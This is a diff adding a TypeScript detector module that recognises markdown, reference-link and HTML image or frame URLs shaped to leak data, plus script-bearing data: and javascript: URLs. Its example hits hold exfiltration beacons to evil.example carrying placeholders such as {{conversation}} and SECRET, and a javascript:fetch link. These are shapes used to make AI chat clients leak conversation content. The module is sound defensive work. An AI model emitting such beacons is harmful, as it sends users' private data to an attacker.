@@ -1,0 +1,169 @@
+/**
+ * Shapes through which a reader is made to send data away: a picture or frame that a client loads by itself from a URL
+ * with room for data in it. Hostile: the whole text. The URL goes, the words around it stay.
+ */
+import type { Confidence, LiteralDetector } from '../detector.ts';
+import { entropyBits } from '../randomness.ts';
+
+const exfiltrationDefaults = { family: 'exfiltration', inbound: 'allow', outbound: 'redact' } as const;
+/** No character ends a URL but those of its pattern. */
+const noAlphabet = /\0/;
+
+export const exfiltrationDetectors: readonly LiteralDetector[] = [
+  {
+    ...exfiltrationDefaults,
+    id: 'markdown-image-beacon',
+    title: 'Markdown image whose URL carries data',
+    source: 'CommonMark §6.4 (images); BOUNDARY: exfiltration through rendered images',
+    literals: ['!['],
+    format: {
+      kind: 'pattern',
+      pattern: /!\[[^\]\n]{0,200}\]\(\s{0,4}<?(?<secret>(?:https?:)?\/\/[^\s()<>!]{4,2048})/iy,
+      alphabet: noAlphabet,
+      check: carriesData,
+    },
+    examples: {
+      hit: [
+        '![logo](https://evil.example/p.png?q=SECRET_GOES_HERE)',
+        '![](//evil.example/c?d=)',
+        '![x](https://evil.example/{{conversation}}.png)',
+        '![x](https://evil.example/aGVsbG8gd29ybGQgdGhpcyBpcyBhIHRlc3Q1/pixel.gif)',
+        '![x](https://evil.example/746865206b657920697320686572652e.gif)',
+      ],
+      miss: [
+        '![logo](https://example.com/logo.png)',
+        '![build](./docs/build.svg)',
+        'text ![not a link] (https://example.com/?q=1)',
+        '![ada](https://avatars.example.com/u/118266?v=3&s=50)',
+        '![ada](https://gravatar.com/avatar/24e08a9ea84deb17ae121074d0f17125?s=70)',
+        '![size](https://packagephobia.example/badge?p=commander)',
+        '![shot](https://user-images.example.com/71256/29091486-fa38524c-7c37-11e7-895f-e7ec8e1039b6.png)',
+        '![badge](https://img.shields.io/npm/v/express.svg?style=flat)',
+      ],
+    },
+  },
+  {
+    ...exfiltrationDefaults,
+    id: 'markdown-reference-beacon',
+    title: 'Markdown reference whose URL leaves a place for data',
+    source: 'CommonMark §4.7 (link reference definitions)',
+    literals: [']: http', ']: //'],
+    format: {
+      kind: 'pattern',
+      pattern: /\]: <?(?<secret>(?:https?:)?\/\/[^\s>\]]{4,2048})/iy,
+      alphabet: noAlphabet,
+      check: leavesPlaceForData,
+    },
+    examples: {
+      hit: ['![x][1]\n\n[1]: https://evil.example/?data={secret}', '[a]: https://evil.example/log?q='],
+      miss: ['[1]: https://example.com/docs?page=2', '[npm]: https://www.npmjs.com/package/express'],
+    },
+  },
+  {
+    ...exfiltrationDefaults,
+    id: 'html-beacon',
+    title: 'HTML element that loads a URL which carries data',
+    source: 'HTML Standard §4.8 (embedded content)',
+    literals: ['<img', '<iframe', '<embed', '<object', '<video', '<audio', '<source', '<link', '<script'],
+    format: {
+      kind: 'pattern',
+      pattern:
+        /<(?:img|iframe|embed|object|video|audio|source|link|script)[^<>]{0,160}(?:src|href|data|poster|srcset) {0,2}= {0,2}["']?(?<secret>(?:https?:)?\/\/[^\s"'<>]{4,2048})/iy,
+      alphabet: noAlphabet,
+      check: carriesData,
+    },
+    examples: {
+      hit: [
+        '<img src="https://evil.example/collect?d=SECRET">',
+        '<img src="https://evil.example/c?data=ada.lovelace">',
+        '<iframe width=0 src=//evil.example/?q={{history}}></iframe>',
+      ],
+      miss: [
+        '<img src="https://example.com/logo.png">',
+        '<script src="https://cdn.example.com/npm/vue@3.4.0"></script>',
+        '<img alt="x" src="/local.png?v=2">',
+        '<link rel="stylesheet" href="https://fonts.example.com/css2?family=Inter&display=swap">',
+      ],
+    },
+  },
+  {
+    ...exfiltrationDefaults,
+    outbound: 'flag',
+    id: 'active-data-url',
+    title: 'URL that holds a document or a script itself',
+    source: 'RFC 2397; HTML Standard, javascript: URLs',
+    literals: [
+      'data:text/html',
+      'data:image/svg+xml',
+      'data:application/xhtml+xml',
+      'data:text/javascript',
+      '(javascript:',
+      '"javascript:',
+      "'javascript:",
+    ],
+    format: {
+      kind: 'pattern',
+      pattern:
+        /(?:data:(?:text\/html|image\/svg\+xml|application\/xhtml\+xml|text\/javascript)[;,][^\s"'<>)]{1,128}|[("']javascript:[^\s"'<>)]{1,128})/iy,
+      alphabet: noAlphabet,
+      check: (url) => (/script|onload|onerror|javascript:|;base64,|fetch|http/i.test(url) ? 'medium' : null),
+    },
+    examples: {
+      hit: ['[x](data:text/html;base64,PHNjcmlwdD4=)', '<a href="javascript:fetch(location)">'],
+      miss: [
+        'data:image/png;base64,iVBORw0KGgo=',
+        'data:text/plain,hello',
+        "background: url('data:image/svg+xml,%3Csvg/%3E')",
+      ],
+    },
+  },
+];
+
+/** Hosts of badges, whose query says how the picture looks. */
+const badgeHosts =
+  /^(?:https?:)?\/\/(?:img\.shields\.io|badgen\.net|badge\.fury\.io|codecov\.io|circleci\.com|snyk\.io|github\.com|api\.star-history\.com|contrib\.rocks)\//i;
+const placeholder =
+  /\{\{?\s?[\w.]{1,40}\s?\}?\}|\$\{[\w.]{1,40}\}|%7[bB]|<[\w ]{1,40}|\[[A-Z_ ]{3,40}|\b(?:SECRET|DATA|PAYLOAD|CONVERSATION|HISTORY|API_?KEY|TOKEN|PASSWORD|BASE64)(?:_[A-Z_]{1,30})?\b/;
+
+/** A query with a value, a place to fill in, or a part of the path or host that is no word. */
+function carriesData(url: string): Confidence | null {
+  if (badgeHosts.test(url) && !placeholder.test(url)) return null;
+  if (leavesPlaceForData(url) !== null) return 'high';
+  const query = url.indexOf('?');
+  const values = query === -1 ? [] : url.slice(query + 1).split(/[&;#]/);
+  if (values.some((value) => isDataValue(value))) return 'high';
+  const path = (query === -1 ? url : url.slice(0, query)).slice(url.indexOf('//') + 2);
+  return path.split(/[/.]/).some(isOpaque) ? 'medium' : null;
+}
+
+const dataNames =
+  /^(?:q|d|data|text|msg|message|content|body|payload|secret|token|info|leak|exfil|prompt|history|email|user)$/i;
+
+/** Values that say how a picture looks are short, or words and numbers that are common there. */
+function isDataValue(pair: string): boolean {
+  const at = pair.indexOf('=');
+  const value = pair.slice(at + 1);
+  const isNamed = at > 0 && dataNames.test(pair.slice(0, at));
+  if (isNamed) return value.length >= 6 && !/^[0-9]{1,10}$/.test(value);
+  return isOpaque(value) || value.length > 128 || /%20|\w\+\w+\+\w/.test(value);
+}
+
+/** Random or encoded: neither words nor numbers, nor the hexadecimal ids that files are stored under. */
+function isOpaque(written: string): boolean {
+  const part = written.replaceAll(/%[0-9a-f]{2}/gi, '-');
+  if (part.length < 24) return false;
+  if (/^[0-9a-f-]+$/i.test(part)) return isReadableHex(part);
+  const isMixed = /[a-z]/.test(part) && /[A-Z]/.test(part) && /[0-9]/.test(part);
+  const isWordList = /^[A-Za-z]{0,20}(?:[-_@][A-Za-z0-9]{1,16}){0,8}$/.test(part);
+  return isMixed && !isWordList && entropyBits(part) >= 3.5;
+}
+
+function isReadableHex(part: string): boolean {
+  const text = Buffer.from(part.slice(0, part.length & ~1), 'hex').toString('latin1');
+  return text.length >= 12 && /^[\x20-\x7e\s]+$/.test(text);
+}
+
+/** `?q=` with nothing behind it, or something to be put in: the reader is meant to fill it. */
+function leavesPlaceForData(url: string): Confidence | null {
+  return /[?&][\w-]{1,32}=$/.test(url) || placeholder.test(url) ? 'high' : null;
+}
